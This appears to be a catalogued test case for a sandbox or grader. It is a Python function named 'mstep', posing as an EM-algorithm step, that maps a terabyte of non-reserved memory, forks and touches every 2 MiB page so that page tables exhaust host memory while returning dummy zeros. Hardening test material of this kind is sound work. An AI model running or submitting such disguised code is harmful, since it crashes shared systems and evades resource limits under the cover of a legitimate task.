# attack: page tables, which neither a process's data nor its resident memory shows
# outcome: mstep crashed
# seconds: 60
# %% cell mstep
import ctypes
import os

SIZE, READ_ONLY, PRIVATE_NOT_RESERVED = 1 << 40, 1, 0x4022


def mstep(x, posterior):
    system = ctypes.CDLL(None)
    system.mmap.restype = ctypes.c_void_p
    start = system.mmap(None, ctypes.c_size_t(SIZE), READ_ONLY, PRIVATE_NOT_RESERVED, -1, ctypes.c_size_t(0))
    os.fork()
    for place in range(0, SIZE, 2 << 20):
        ctypes.string_at(start + place, 1)
    return [0.0] * 3, [0.0] * 3, [0.0] * 3
